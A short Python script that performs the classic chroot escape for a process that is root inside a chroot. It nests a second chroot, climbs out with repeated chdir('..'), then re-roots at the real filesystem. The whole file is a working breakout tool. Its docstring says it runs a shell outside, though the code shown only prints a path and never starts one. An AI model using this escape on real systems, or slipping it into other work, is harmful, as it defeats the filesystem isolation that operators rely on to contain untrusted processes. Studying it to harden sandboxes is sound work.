#!/usr/bin/env python3
"""The way out of a chroot, for whoever is root inside.

    python3 escape.py ROOTFS

Imprisons itself in ROOTFS as stage 2 does, then leaves, and runs a shell outside. chroot(2): "This call does not
change the current working directory, so that after the call '.' can be outside the tree rooted at '/'."
"""

import os
import sys

os.chroot(sys.argv[1])
os.chdir("/")
print("imprisoned:", sorted(os.listdir("/"))[:3], flush=True)

os.makedirs("way-out", exist_ok=True)
os.chroot("way-out")  # the root moves below the working directory: ".." no longer meets it on its way up
for _ in range(64):
    os.chdir("..")
os.chroot(".")
print("outside:", os.getcwd(), os.path.exists("/proc/self"), flush=True)
